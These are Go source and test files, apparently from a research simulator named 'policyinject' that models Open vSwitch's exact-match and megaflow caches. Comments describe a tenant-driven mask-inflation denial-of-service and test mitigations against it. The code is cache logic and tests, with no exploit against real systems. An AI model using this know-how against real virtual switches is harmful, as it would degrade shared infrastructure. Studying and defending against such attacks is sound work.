func TestEMCEvictsAtCapacity(t *testing.T) {
	e := NewEMC(EMCConfig{Entries: 8})
	for i := 0; i < 100; i++ {
		e.Insert(key(uint64(i), 0), mf(allow))
	}
	if e.Len() != 8 {
		t.Fatalf("Len = %d, want 8", e.Len())
	}
	if e.Evictions != 92 {
		t.Errorf("evictions = %d, want 92", e.Evictions)
	}
	// Every remaining entry must still be retrievable (slot bookkeeping).
	hits := 0
	for i := 0; i < 100; i++ {
		if _, ok := e.Lookup(key(uint64(i), 0), 200); ok {
			hits++
		}
	}
	if hits != 8 {
		t.Errorf("retrievable entries = %d, want 8", hits)
	}
}

func TestEMCDisabled(t *testing.T) {
	e := NewEMC(EMCConfig{Entries: -1})
	e.Insert(key(1, 1), mf(allow))
	if _, ok := e.Lookup(key(1, 1), 0); ok {
		t.Fatal("disabled EMC returned a hit")
	}
	if e.Len() != 0 {
		t.Fatal("disabled EMC stored an entry")
	}
}

func TestEMCInsertEvery(t *testing.T) {
	e := NewEMC(EMCConfig{Entries: 1000, InsertEvery: 5})
	for i := 0; i < 100; i++ {
		e.Insert(key(uint64(i), 0), mf(allow))
	}
	if e.Len() != 20 {
		t.Errorf("Len = %d, want 20 (1 in 5)", e.Len())
	}
}

func TestEMCUpdateExisting(t *testing.T) {
	e := NewEMC(EMCConfig{Entries: 4})
	k := key(1, 1)
	e.Insert(k, mf(allow))
	e.Insert(k, mf(deny))
	if e.Len() != 1 {
		t.Fatalf("Len = %d", e.Len())
	}
	if ent, _ := e.Lookup(k, 2); ent.Verdict != deny {
		t.Fatalf("verdict = %v", ent.Verdict)
	}
}

func TestEMCRemoveAndFlush(t *testing.T) {
	e := NewEMC(EMCConfig{Entries: 16})
	for i := 0; i < 10; i++ {
		e.Insert(key(uint64(i), 0), mf(allow))
	}
	if !e.Remove(key(3, 0)) || e.Remove(key(3, 0)) {
		t.Fatal("Remove misbehaved")
	}
	if e.Len() != 9 {
		t.Fatalf("Len = %d", e.Len())
	}
	// All others must still be retrievable after the slot swap.
	for i := 0; i < 10; i++ {
		_, ok := e.Lookup(key(uint64(i), 0), 1)
		if (i == 3) == ok {
			t.Fatalf("entry %d retrievable=%v", i, ok)
		}
	}
	e.Flush()
	if e.Len() != 0 {
		t.Fatal("Flush left entries")
	}
}

// Property-style: random insert/remove traffic keeps the map and the slot
// array consistent.
func TestEMCSlotConsistency(t *testing.T) {
	rng := rand.New(rand.NewSource(3))
	e := NewEMC(EMCConfig{Entries: 32})
	live := map[flow.Key]bool{}
	for step := 0; step < 10000; step++ {
		k := key(uint64(rng.Intn(64)), 0)
		if rng.Intn(3) == 0 {
			e.Remove(k)
			delete(live, k)
		} else {
			e.Insert(k, mf(allow))
		}
		if len(e.keys) != len(e.entries) {
			t.Fatalf("step %d: %d keys vs %d entries", step, len(e.keys), len(e.entries))
		}
	}
	// Spot-check: every key in the dense array resolves.
	for _, k := range e.keys {
		if _, ok := e.entries[k]; !ok {
			t.Fatalf("dangling key in slot array")
		}
	}
}

func TestMegaflowLookupOrderAndScanCount(t *testing.T) {
	m := NewMegaflow(MegaflowConfig{})
	m.Insert(prefixMatch(0x80000000, 1), deny, 0)
	m.Insert(prefixMatch(0x40000000, 2), deny, 0)
	m.Insert(prefixMatch(0x20000000, 3), deny, 0)

	// 0x20... matches only the third subtable: 3 masks scanned.
	ent, scanned, ok := m.Lookup(key(0x20000001, 0), 1)
	if !ok || scanned != 3 || ent.Verdict != deny {
		t.Fatalf("ent=%v scanned=%d ok=%v", ent, scanned, ok)
	}
	// 0x80... matches the first: 1 mask scanned.
	_, scanned, ok = m.Lookup(key(0x80000001, 0), 1)
	if !ok || scanned != 1 {
		t.Fatalf("scanned=%d ok=%v", scanned, ok)
	}
	// Miss scans everything.
	_, scanned, ok = m.Lookup(key(0x10000000, 0), 1)
	if ok || scanned != 3 {
		t.Fatalf("miss scanned=%d ok=%v", scanned, ok)
	}
	if m.NumMasks() != 3 || m.Len() != 3 {
		t.Fatalf("masks=%d entries=%d", m.NumMasks(), m.Len())
	}
}

func TestMegaflowSameMaskSharesSubtable(t *testing.T) {
	m := NewMegaflow(MegaflowConfig{})
	for i := 0; i < 100; i++ {
		m.Insert(prefixMatch(uint64(i)<<24, 8), deny, 0)
	}
	if m.NumMasks() != 1 {
		t.Fatalf("masks = %d, want 1", m.NumMasks())
	}
	if m.Len() != 100 {
		t.Fatalf("entries = %d", m.Len())
	}
	_, scanned, ok := m.Lookup(key(50<<24|1234, 0), 0)
	if !ok || scanned != 1 {
		t.Fatalf("scanned=%d ok=%v", scanned, ok)
	}
}

func TestMegaflowFlowLimit(t *testing.T) {
	m := NewMegaflow(MegaflowConfig{FlowLimit: 2})
	if _, err := m.Insert(prefixMatch(1<<24, 8), deny, 0); err != nil {
		t.Fatal(err)
	}
	if _, err := m.Insert(prefixMatch(2<<24, 8), deny, 0); err != nil {
		t.Fatal(err)
	}
	if _, err := m.Insert(prefixMatch(3<<24, 8), deny, 0); !errors.Is(err, ErrFlowLimit) {
		t.Fatalf("err = %v, want ErrFlowLimit", err)
	}
	// Replacing an existing masked key is not a new entry.
	if _, err := m.Insert(prefixMatch(1<<24, 8), allow, 1); err != nil {
		t.Fatalf("replace: %v", err)
	}
}

func TestMegaflowMaskLimit(t *testing.T) {
	m := NewMegaflow(MegaflowConfig{MaxMasks: 2})
	m.Insert(prefixMatch(0x80000000, 1), deny, 0)
	m.Insert(prefixMatch(0x40000000, 2), deny, 0)
	_, err := m.Insert(prefixMatch(0x20000000, 3), deny, 0)
	if !errors.Is(err, ErrMaskLimit) {
		t.Fatalf("err = %v, want ErrMaskLimit", err)
	}
	// Same-mask inserts still work at the cap.
	if _, err := m.Insert(prefixMatch(0x00000000, 1), deny, 0); err != nil {
		t.Fatalf("same-mask insert: %v", err)
	}
}

func TestMegaflowRemoveDropsEmptySubtable(t *testing.T) {
	m := NewMegaflow(MegaflowConfig{})
	m.Insert(prefixMatch(0x0a000000, 8), allow, 0)
	if !m.Remove(prefixMatch(0x0a000000, 8)) {
		t.Fatal("Remove failed")
	}
	if m.NumMasks() != 0 || m.Len() != 0 {
		t.Fatalf("masks=%d len=%d after removing last entry", m.NumMasks(), m.Len())
	}
	if m.Remove(prefixMatch(0x0a000000, 8)) {
		t.Fatal("double Remove succeeded")
	}
}

func TestMegaflowEvictIdle(t *testing.T) {
	m := NewMegaflow(MegaflowConfig{})
	m.Insert(prefixMatch(1<<24, 8), deny, 0)
	m.Insert(prefixMatch(0x40000000, 2), deny, 0)
	// Touch only the first at t=100.
	if _, _, ok := m.Lookup(key(1<<24|7, 0), 100); !ok {
		t.Fatal("expected hit")
	}
	evicted := m.EvictIdle(50)
	if evicted != 1 {
		t.Fatalf("evicted = %d, want 1", evicted)
	}
	if m.Len() != 1 || m.NumMasks() != 1 {
		t.Fatalf("len=%d masks=%d", m.Len(), m.NumMasks())
	}
}

// exactIPMatch builds an exact-match on ip_src, one entry per ip.
func exactIPMatch(ip uint64) flow.Match {
	var m flow.Match
	m.Key.Set(flow.FieldIPSrc, ip)
	m.Mask.SetExact(flow.FieldIPSrc)
	m.Normalize()
	return m
}

// TestMegaflowSetFlowLimitAndTrim pins the dynamic-limit contract: cutting
// the limit below the resident count rejects new inserts immediately, and
// TrimToLimit then evicts exactly the stalest entries (oldest LastHit),
// marking them dead and dropping emptied subtables.
func TestMegaflowSetFlowLimitAndTrim(t *testing.T) {
	m := NewMegaflow(MegaflowConfig{})
	if m.FlowLimit() != DefaultFlowLimit {
		t.Fatalf("default FlowLimit = %d", m.FlowLimit())
	}
	ents := make([]*Entry, 8)
	for i := range ents {
		var err error
		ents[i], err = m.Insert(exactIPMatch(uint64(i)), allow, uint64(i))
		if err != nil {
			t.Fatal(err)
		}
	}
	// Keep 5..7 warm.
	for i := 5; i < 8; i++ {
		if _, _, ok := m.Lookup(key(uint64(i), 0), 100); !ok {
			t.Fatalf("entry %d missing", i)
		}
	}
	m.SetFlowLimit(3)
	// The cut alone evicts nothing, but new inserts are already refused.
	if m.Len() != 8 {
		t.Fatalf("SetFlowLimit evicted eagerly: len=%d", m.Len())
	}
	if _, err := m.Insert(exactIPMatch(99), allow, 101); !errors.Is(err, ErrFlowLimit) {
		t.Fatalf("insert over the cut limit: err=%v", err)
	}
	// Replacing an existing entry must still work at the limit.
	if _, err := m.Insert(exactIPMatch(6), deny, 101); err != nil {
		t.Fatalf("replace at the limit failed: %v", err)
	}
	if got := m.TrimToLimit(); got != 5 {
		t.Fatalf("trimmed %d, want 5", got)
	}
	if m.Len() != 3 {
		t.Fatalf("len=%d after trim, want 3", m.Len())
	}
	for i := 0; i < 5; i++ {
		if !ents[i].Dead() {
			t.Errorf("stale entry %d not marked dead", i)
		}
		if _, _, ok := m.Lookup(key(uint64(i), 0), 102); ok {
			t.Errorf("stale entry %d still resident", i)
		}
	}
	for i := 5; i < 8; i++ {
		if _, _, ok := m.Lookup(key(uint64(i), 0), 102); !ok {
			t.Errorf("warm entry %d was trimmed", i)
		}
	}
	if m.TrimToLimit() != 0 {
		t.Error("second trim evicted again")
	}
	// Raising the limit re-admits inserts.
	m.SetFlowLimit(10)
	if _, err := m.Insert(exactIPMatch(99), allow, 103); err != nil {
		t.Fatalf("insert after raising the limit: %v", err)
	}
}

// TestMegaflowRejectedInsertMintsNoMask is the regression for the
// empty-subtable leak: an insert refused by the flow limit must not leave
// a fresh mask in the scan order (the attacker would otherwise keep
// inflating the mask count with every rejected flow).
func TestMegaflowRejectedInsertMintsNoMask(t *testing.T) {
	m := NewMegaflow(MegaflowConfig{FlowLimit: 1})
	if _, err := m.Insert(exactIPMatch(1), allow, 0); err != nil {
		t.Fatal(err)
	}
	if _, err := m.Insert(prefixMatch(0x0a000000, 8), allow, 1); !errors.Is(err, ErrFlowLimit) {
		t.Fatalf("err = %v, want ErrFlowLimit", err)
	}
	if m.NumMasks() != 1 {
		t.Fatalf("rejected insert leaked a subtable: %d masks", m.NumMasks())
	}
	if m.Len() != 1 {
		t.Fatalf("len = %d", m.Len())
	}
}

func TestMegaflowRevalidate(t *testing.T) {
	m := NewMegaflow(MegaflowConfig{})
	m.Insert(prefixMatch(1<<24, 8), allow, 0)
	m.Insert(prefixMatch(2<<24, 8), allow, 0)
	// Policy changed: everything is deny now -> both entries flushed.
	flushed := m.Revalidate(func(e *Entry) (Verdict, bool) { return deny, true })
	if flushed != 2 || m.Len() != 0 {
		t.Fatalf("flushed=%d len=%d", flushed, m.Len())
	}
}

func TestMegaflowStatsAverage(t *testing.T) {
	m := NewMegaflow(MegaflowConfig{})
	for i := 1; i <= 4; i++ {
		m.Insert(prefixMatch(uint64(0xffffffff<<(32-i))&0xffffffff, i), deny, 0)
	}
	// A key matching none scans all 4 masks.
	m.Lookup(key(0, 0), 0)
	if got := m.AvgMasksScanned(); got != 4 {
		t.Fatalf("avg = %v", got)
	}
}

// TestSortedTSSMovesHotSubtableFirst verifies the "sorted TSS" mitigation:
// after enough lookups, the hot mask is scanned first.
func TestSortedTSSMovesHotSubtableFirst(t *testing.T) {
	m := NewMegaflow(MegaflowConfig{SortByHits: true, SortEvery: 10})
	m.Insert(prefixMatch(0x80000000, 1), deny, 0) // cold, scanned first initially
	m.Insert(prefixMatch(0x40000000, 2), deny, 0) // hot
	hot := key(0x40000001, 0)
	for i := 0; i < 20; i++ {
		m.Lookup(hot, uint64(i))
	}
	_, scanned, ok := m.Lookup(hot, 100)
	if !ok || scanned != 1 {
		t.Fatalf("hot subtable not promoted: scanned=%d", scanned)
	}
}

// TestMegaflowNonOverlapInvariant: entries synthesised from disjoint
// divergence prefixes never overlap, so lookup order among them is
// irrelevant. This mirrors the paper's note that the slow path ensures MF
// entries are non-overlapping.
func TestMegaflowNonOverlapInvariant(t *testing.T) {
	// The Fig. 2b entry set.
	entries := []flow.Match{
		prefixMatch(0x80000000, 1),
		prefixMatch(0x40000000, 2),
		prefixMatch(0x20000000, 3),
		prefixMatch(0x10000000, 4),
		prefixMatch(0x00000000, 5),
		prefixMatch(0x0c000000, 6),
		prefixMatch(0x08000000, 7),
		prefixMatch(0x0b000000, 8),
	}
	for i := range entries {
		for j := range entries {
			if i != j && entries[i].Overlaps(entries[j]) {
				t.Errorf("entries %d and %d overlap: %v / %v", i, j, entries[i], entries[j])
			}
		}
	}
}

func TestMegaflowFlush(t *testing.T) {
	m := NewMegaflow(MegaflowConfig{})
	m.Insert(prefixMatch(1<<24, 8), deny, 0)
	m.Flush()
	if m.Len() != 0 || m.NumMasks() != 0 {
		t.Fatal("Flush left state")
	}
	if _, _, ok := m.Lookup(key(1<<24, 0), 0); ok {
		t.Fatal("hit after Flush")
	}
}

func TestEntriesEnumeration(t *testing.T) {
	m := NewMegaflow(MegaflowConfig{})
	m.Insert(prefixMatch(1<<24, 8), deny, 0)
	m.Insert(prefixMatch(0x80000000, 1), allow, 0)
	if got := len(m.Entries()); got != 2 {
		t.Fatalf("Entries() len = %d", got)
	}
}

// TestEMCInsertProbDeterministic: probabilistic insertion draws from a
// seeded PRNG, so the same seed admits the same flows in every run, and
// the admit rate lands near 1/InsertProb.
func TestEMCInsertProbDeterministic(t *testing.T) {
	admitted := func(seed uint64) []int {
		e := NewEMC(EMCConfig{Entries: 1 << 14, InsertProb: 10, Seed: seed})
		var got []int
		for i := 0; i < 2000; i++ {
			e.Insert(key(uint64(i), 0), mf(allow))
		}
		for i := 0; i < 2000; i++ {
			if _, ok := e.Lookup(key(uint64(i), 0), 1); ok {
				got = append(got, i)
			}
		}
		return got
	}
	a, b := admitted(7), admitted(7)
	if len(a) != len(b) {
		t.Fatalf("same seed, different admit counts: %d vs %d", len(a), len(b))
	}
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("same seed, different admit sets at %d", i)
		}
	}
	// ~1/10 of 2000 = 200; allow generous slack for a 64-bit xorshift.
	if len(a) < 120 || len(a) > 300 {
		t.Errorf("admit rate = %d/2000, want ≈200", len(a))
	}
	c := admitted(8)
	if len(c) == len(a) {
		same := true
		for i := range a {
			if a[i] != c[i] {
				same = false
				break
			}
		}
		if same {
			t.Error("different seeds drew identical admit sets")
		}
	}
}

// TestEMCInsertProbOneAlwaysInserts: InsertProb = 1 is "insert always",
// the explicit opt-out from the SMC-forced default.
func TestEMCInsertProbOneAlwaysInserts(t *testing.T) {
	e := NewEMC(EMCConfig{Entries: 100, InsertProb: 1})
	for i := 0; i < 50; i++ {
		e.Insert(key(uint64(i), 0), mf(allow))
	}
	if e.Len() != 50 {
		t.Fatalf("Len = %d, want 50", e.Len())
	}
}

// TestMegaflowInsertReplaceRefreshesLastHit is the regression test for the
// replace path: re-installing an existing masked key (revalidation after a
// policy change does this) must refresh LastHit as well as Added, or the
// just-refreshed entry is evicted by the very next EvictIdle sweep.
func TestMegaflowInsertReplaceRefreshesLastHit(t *testing.T) {
	m := NewMegaflow(MegaflowConfig{})
	match := prefixMatch(0x0a000000, 8)
	if _, err := m.Insert(match, allow, 1); err != nil {
		t.Fatal(err)
	}
	// Much later, the same masked key is re-installed (fresh verdict).
	ent, err := m.Insert(match, deny, 100)
	if err != nil {
		t.Fatal(err)
	}
	if ent.LastHit != 100 {
		t.Fatalf("replace left LastHit = %d, want 100", ent.LastHit)
	}
	// The idle sweep right after the refresh must keep the entry.
	if evicted := m.EvictIdle(90); evicted != 0 {
		t.Fatalf("EvictIdle evicted %d just-refreshed entries", evicted)
	}
	if _, _, ok := m.Lookup(key(0x0a000001, 0), 101); !ok {
		t.Fatal("refreshed entry gone")
	}
}

// TestEMCInsertProbPrecedence: an explicit probabilistic policy (even
// "insert always") overrides the periodic InsertEvery throttle.
func TestEMCInsertProbPrecedence(t *testing.T) {
	e := NewEMC(EMCConfig{Entries: 100, InsertProb: 1, InsertEvery: 5})
	for i := 0; i < 50; i++ {
		e.Insert(key(uint64(i), 0), mf(allow))
	}
	if e.Len() != 50 {
		t.Fatalf("Len = %d, want 50 (InsertProb=1 must beat InsertEvery)", e.Len())
	}
}
