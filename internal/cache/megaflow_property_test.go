package cache

import (
	"math/rand"
	"testing"

	"policyinject/internal/flow"
)

// naiveStore is the reference the TSS cache is differential-tested
// against: a flat list scanned first-match, with the same non-overlap
// assumption the slow path guarantees.
type naiveStore struct {
	matches  []flow.Match
	verdicts []Verdict
}

func (n *naiveStore) insert(m flow.Match, v Verdict) {
	m.Normalize()
	for i := range n.matches {
		if n.matches[i] == m {
			n.verdicts[i] = v
			return
		}
	}
	n.matches = append(n.matches, m)
	n.verdicts = append(n.verdicts, v)
}

func (n *naiveStore) remove(m flow.Match) bool {
	m.Normalize()
	for i := range n.matches {
		if n.matches[i] == m {
			n.matches = append(n.matches[:i], n.matches[i+1:]...)
			n.verdicts = append(n.verdicts[:i], n.verdicts[i+1:]...)
			return true
		}
	}
	return false
}

func (n *naiveStore) lookup(k flow.Key) (Verdict, bool) {
	for i := range n.matches {
		if n.matches[i].Matches(k) {
			return n.verdicts[i], true
		}
	}
	return Verdict{}, false
}

// randomNonOverlapMatch produces divergence-prefix-shaped matches like the
// slow path synthesises: prefixes over ip_src and tp_dst plus an exact
// in_port. Generated per the attack's tiling, they never conflict: two
// matches either describe disjoint key sets or identical ones.
func randomNonOverlapMatch(rng *rand.Rand) flow.Match {
	var m flow.Match
	m.Key.Set(flow.FieldInPort, uint64(rng.Intn(3)))
	m.Mask.SetExact(flow.FieldInPort)
	d1 := 1 + rng.Intn(32)
	m.Key.Set(flow.FieldIPSrc, uint64(0x0a000001)^(1<<uint(32-d1)))
	m.Mask.SetPrefix(flow.FieldIPSrc, d1)
	d2 := 1 + rng.Intn(16)
	m.Key.Set(flow.FieldTPDst, uint64(80^(1<<uint(16-d2))))
	m.Mask.SetPrefix(flow.FieldTPDst, d2)
	m.Normalize()
	return m
}

// TestMegaflowDifferentialAgainstNaive drives random insert/remove/lookup
// traffic through the TSS cache and the naive matcher and demands
// identical verdicts throughout. Hits also refresh LastHit identically, so
// idle eviction is cross-checked at the end.
func TestMegaflowDifferentialAgainstNaive(t *testing.T) {
	rng := rand.New(rand.NewSource(31))
	mfc := NewMegaflow(MegaflowConfig{})
	ref := &naiveStore{}
	verdicts := []Verdict{allow, deny}

	var live []flow.Match
	for step := 0; step < 20000; step++ {
		switch op := rng.Intn(10); {
		case op < 4: // insert
			m := randomNonOverlapMatch(rng)
			v := verdicts[rng.Intn(2)]
			if _, err := mfc.Insert(m, v, uint64(step)); err != nil {
				t.Fatalf("step %d: %v", step, err)
			}
			ref.insert(m, v)
			live = append(live, m)
		case op < 5 && len(live) > 0: // remove
			i := rng.Intn(len(live))
			m := live[i]
			got := mfc.Remove(m)
			want := ref.remove(m)
			if got != want {
				t.Fatalf("step %d: Remove=%v ref=%v", step, got, want)
			}
			live = append(live[:i], live[i+1:]...)
		default: // lookup
			var k flow.Key
			k.Set(flow.FieldInPort, uint64(rng.Intn(3)))
			k.Set(flow.FieldIPSrc, uint64(0x0a000001)^(1<<uint(rng.Intn(32))))
			k.Set(flow.FieldTPDst, uint64(80^(1<<uint(rng.Intn(16)))))
			ent, _, ok := mfc.Lookup(k, uint64(step))
			wantV, wantOK := ref.lookup(k)
			if ok != wantOK {
				t.Fatalf("step %d: lookup(%v) hit=%v ref=%v", step, k, ok, wantOK)
			}
			if ok && ent.Verdict != wantV {
				t.Fatalf("step %d: verdict %v ref %v", step, ent.Verdict, wantV)
			}
		}
		if mfc.Len() != len(ref.matches) {
			t.Fatalf("step %d: len %d vs ref %d", step, mfc.Len(), len(ref.matches))
		}
	}
	// Idle-evict everything and confirm emptiness agrees.
	mfc.EvictIdle(1 << 60)
	if mfc.Len() != 0 || mfc.NumMasks() != 0 {
		t.Fatalf("eviction left %d entries / %d masks", mfc.Len(), mfc.NumMasks())
	}
}
