// Package cache implements the two-level fast path of the hypervisor
// switch, modelled on the Open vSwitch datapath:
//
//   - the exact-match (microflow) cache, EMC: a bounded store keyed by the
//     full flow key, consulted first; each entry references the megaflow
//     entry that produced it, so EMC hits keep the megaflow warm, exactly
//     as in OVS;
//   - the megaflow cache: a tuple-space search (TSS) classifier holding
//     the wildcard entries the slow path synthesises — one hash table per
//     distinct mask, scanned sequentially until the first hit.
//
// The megaflow cache's sequential mask scan is the algorithmic deficiency
// the paper exploits: lookup cost is linear in the number of distinct
// masks, and a tenant can mint masks at will via policy injection.
package cache

import "policyinject/internal/flow"

// EMCConfig tunes the exact-match cache.
type EMCConfig struct {
	// Entries caps the number of cached microflows. 0 means the OVS
	// default of 8192. Negative disables the EMC.
	Entries int
	// InsertEvery inserts only every Nth missed flow (OVS's
	// emc-insert-inv-prob). 0 or 1 inserts always.
	InsertEvery int
}

// DefaultEMCEntries matches the OVS default EMC size.
const DefaultEMCEntries = 8192

type emcEntry struct {
	flow *Entry // referenced megaflow entry
	slot int    // index in keys, for O(1) random-replacement eviction
}

// EMC is the exact-match (microflow) cache. Not safe for concurrent use;
// the dataplane owns it.
type EMC struct {
	cfg     EMCConfig
	max     int
	entries map[flow.Key]*emcEntry
	keys    []flow.Key // dense set for eviction victim selection
	missSeq int        // insertion probability counter
	evictRR uint64     // cheap deterministic "random" victim cursor

	// Stats
	Hits, Misses, Inserts, Evictions, Stale uint64
}

// NewEMC builds an EMC per cfg.
func NewEMC(cfg EMCConfig) *EMC {
	max := cfg.Entries
	if max == 0 {
		max = DefaultEMCEntries
	}
	if max < 0 {
		max = 0
	}
	return &EMC{
		cfg:     cfg,
		max:     max,
		entries: make(map[flow.Key]*emcEntry, max),
	}
}

// Cap returns the configured capacity (0 when disabled).
func (e *EMC) Cap() int { return e.max }

// Len returns the number of cached microflows.
func (e *EMC) Len() int { return len(e.entries) }

// Lookup consults the cache at logical time now. A hit returns the
// referenced megaflow entry and credits it (hit count and last-used time),
// which is what keeps attacker megaflows resident under EMC traffic. An
// entry whose megaflow has died (evicted or revalidated away) is purged
// lazily and reported as a miss — OVS's staleness check by sequence
// number.
func (e *EMC) Lookup(k flow.Key, now uint64) (*Entry, bool) {
	if e.max == 0 {
		return nil, false
	}
	ent, ok := e.entries[k]
	if !ok {
		e.Misses++
		return nil, false
	}
	if ent.flow.Dead() {
		e.Remove(k)
		e.Stale++
		e.Misses++
		return nil, false
	}
	ent.flow.Hits++
	ent.flow.LastHit = now
	e.Hits++
	return ent.flow, true
}

// Insert caches a reference to megaflow entry f for exact key k, applying
// the configured insertion probability and evicting a pseudo-random victim
// when full.
func (e *EMC) Insert(k flow.Key, f *Entry) {
	if e.max == 0 || f == nil {
		return
	}
	if e.cfg.InsertEvery > 1 {
		e.missSeq++
		if e.missSeq%e.cfg.InsertEvery != 0 {
			return
		}
	}
	if ent, ok := e.entries[k]; ok {
		ent.flow = f
		return
	}
	if len(e.entries) >= e.max {
		e.evictOne(k)
	}
	ent := &emcEntry{flow: f, slot: len(e.keys)}
	e.keys = append(e.keys, k)
	e.entries[k] = ent
	e.Inserts++
}

// evictOne removes a pseudo-random entry. OVS's EMC is a 2-way
// hash-indexed structure where a colliding insert displaces one of two
// victims; hashing the incoming key into the dense slot array reproduces
// that "victim determined by the new key" behaviour deterministically.
func (e *EMC) evictOne(incoming flow.Key) {
	if len(e.keys) == 0 {
		return
	}
	e.evictRR = e.evictRR*6364136223846793005 + incoming.Hash()
	victimSlot := int(e.evictRR % uint64(len(e.keys)))
	victimKey := e.keys[victimSlot]
	last := len(e.keys) - 1
	e.keys[victimSlot] = e.keys[last]
	if moved, ok := e.entries[e.keys[victimSlot]]; ok && victimSlot != last {
		moved.slot = victimSlot
	}
	e.keys = e.keys[:last]
	delete(e.entries, victimKey)
	e.Evictions++
}

// Remove drops the entry for k if present.
func (e *EMC) Remove(k flow.Key) bool {
	ent, ok := e.entries[k]
	if !ok {
		return false
	}
	last := len(e.keys) - 1
	e.keys[ent.slot] = e.keys[last]
	if moved, ok2 := e.entries[e.keys[ent.slot]]; ok2 && ent.slot != last {
		moved.slot = ent.slot
	}
	e.keys = e.keys[:last]
	delete(e.entries, k)
	return true
}

// Flush empties the cache (used after policy changes).
func (e *EMC) Flush() {
	e.entries = make(map[flow.Key]*emcEntry, e.max)
	e.keys = e.keys[:0]
}
