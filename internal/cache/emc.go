// Package cache implements the two-level fast path of the hypervisor
// switch, modelled on the Open vSwitch datapath:
//
//   - the exact-match (microflow) cache, EMC: a bounded store keyed by the
//     full flow key, consulted first; each entry references the megaflow
//     entry that produced it, so EMC hits keep the megaflow warm, exactly
//     as in OVS;
//   - the megaflow cache: a tuple-space search (TSS) classifier holding
//     the wildcard entries the slow path synthesises — one hash table per
//     distinct mask, scanned sequentially until the first hit.
//
// The megaflow cache's sequential mask scan is the algorithmic deficiency
// the paper exploits: lookup cost is linear in the number of distinct
// masks, and a tenant can mint masks at will via policy injection.
//
//lint:deterministic
package cache

import (
	"math/bits"

	"policyinject/internal/burst"
	"policyinject/internal/flow"
)

// EMCConfig tunes the exact-match cache.
type EMCConfig struct {
	// Entries caps the number of cached microflows. 0 means the OVS
	// default of 8192. Negative disables the EMC.
	Entries int
	// InsertEvery inserts only every Nth missed flow — the strictly
	// periodic (deterministic) insertion throttle. 0 or 1 inserts always.
	InsertEvery int
	// InsertProb, when greater than 1, inserts each candidate flow with
	// probability 1/InsertProb, drawn from a per-cache deterministic PRNG
	// — OVS's emc-insert-inv-prob, which OVS ≥ 2.7 defaults to 100 and
	// which enabling the SMC forces on (see dataplane.New). 1 inserts
	// always; 0 defers to InsertEvery. Takes precedence over InsertEvery
	// when both are set.
	InsertProb int
	// Seed perturbs the insertion PRNG so distinct switches draw distinct
	// but reproducible sequences; experiments stay deterministic.
	Seed uint64
}

// DefaultEMCEntries matches the OVS default EMC size.
const DefaultEMCEntries = 8192

// DefaultEMCInsertProb is the OVS emc-insert-inv-prob default (insert one
// candidate flow in 100), applied when the SMC tier is enabled.
const DefaultEMCInsertProb = 100

type emcEntry struct {
	flow *Entry // referenced megaflow entry
	slot int    // index in keys, for O(1) random-replacement eviction
}

// EMC is the exact-match (microflow) cache. Not safe for concurrent use;
// the dataplane owns it.
type EMC struct {
	cfg     EMCConfig
	max     int
	entries map[flow.Key]*emcEntry
	keys    []flow.Key // dense set for eviction victim selection
	missSeq int        // periodic-insertion counter (InsertEvery)
	insRng  uint64     // probabilistic-insertion PRNG state (InsertProb)
	evictRR uint64     // cheap deterministic "random" victim cursor

	// Stats
	Hits, Misses, Inserts, Evictions, Stale uint64
}

// NewEMC builds an EMC per cfg.
func NewEMC(cfg EMCConfig) *EMC {
	max := cfg.Entries
	if max == 0 {
		max = DefaultEMCEntries
	}
	if max < 0 {
		max = 0
	}
	e := &EMC{
		cfg:     cfg,
		max:     max,
		entries: make(map[flow.Key]*emcEntry, max),
		// Splitmix-style seed scramble: distinct seeds (and seed 0) all
		// start from well-mixed, reproducible PRNG states.
		insRng: (cfg.Seed + 0x9e3779b97f4a7c15) * 0xbf58476d1ce4e5b9,
	}
	if e.insRng == 0 {
		// Zero is xorshift64's sticky fixed point (and 0 % p == 0 would
		// insert always); nudge the one seed that scrambles to it.
		e.insRng = 0x9e3779b97f4a7c15
	}
	return e
}

// Cap returns the configured capacity (0 when disabled).
func (e *EMC) Cap() int { return e.max }

// Len returns the number of cached microflows.
func (e *EMC) Len() int { return len(e.entries) }

// Lookup consults the cache at logical time now. A hit returns the
// referenced megaflow entry and credits it (hit count and last-used time),
// which is what keeps attacker megaflows resident under EMC traffic. An
// entry whose megaflow has died (evicted or revalidated away) is purged
// lazily and reported as a miss — OVS's staleness check by sequence
// number.
func (e *EMC) Lookup(k flow.Key, now uint64) (*Entry, bool) {
	if e.max == 0 {
		return nil, false
	}
	ent, ok := e.entries[k]
	if !ok {
		e.Misses++
		return nil, false
	}
	if ent.flow.Dead() {
		e.Remove(k)
		e.Stale++
		e.Misses++
		return nil, false
	}
	ent.flow.Hits++
	ent.flow.LastHit = now
	e.Hits++
	return ent.flow, true
}

// LookupBatch consults the cache for every key index set in miss at
// logical time now: a hit writes ents[i] and clears the bit, a miss keeps
// it. EMC lookups cost no subtable scans, so costs are untouched. Counter
// effects equal the scalar Lookup sequence over the same keys.
//
//lint:hotpath
func (e *EMC) LookupBatch(keys []flow.Key, now uint64, ents []*Entry, miss *burst.Bitmap) {
	if e.max == 0 {
		return
	}
	words := miss.Words()
	for wi := range words {
		w := words[wi]
		for w != 0 {
			i := wi<<6 + bits.TrailingZeros64(w)
			w &= w - 1
			if f, ok := e.Lookup(keys[i], now); ok {
				ents[i] = f
				miss.Clear(i)
			}
		}
	}
}

// AccountRun bills n additional hits of resident entry f without
// re-probing — the same-flow run coalescing fast path, equivalent to n
// Lookup calls that hit f.
func (e *EMC) AccountRun(f *Entry, n int, now uint64) {
	nn := uint64(n)
	e.Hits += nn
	f.Hits += nn
	f.LastHit = now
}

// Insert caches a reference to megaflow entry f for exact key k, applying
// the configured insertion probability and evicting a pseudo-random victim
// when full.
func (e *EMC) Insert(k flow.Key, f *Entry) {
	if e.max == 0 || f == nil {
		return
	}
	if e.cfg.InsertProb > 0 {
		// Probabilistic policy set: 1 inserts always, > 1 draws. Either
		// way it takes precedence over InsertEvery, as documented.
		if e.cfg.InsertProb > 1 {
			// xorshift64 draw: deterministic for a given Seed, so
			// experiment runs with probabilistic insertion stay
			// reproducible.
			e.insRng ^= e.insRng << 13
			e.insRng ^= e.insRng >> 7
			e.insRng ^= e.insRng << 17
			if e.insRng%uint64(e.cfg.InsertProb) != 0 {
				return
			}
		}
	} else if e.cfg.InsertEvery > 1 {
		e.missSeq++
		if e.missSeq%e.cfg.InsertEvery != 0 {
			return
		}
	}
	if ent, ok := e.entries[k]; ok {
		ent.flow = f
		return
	}
	if len(e.entries) >= e.max {
		e.evictOne(k)
	}
	ent := &emcEntry{flow: f, slot: len(e.keys)}
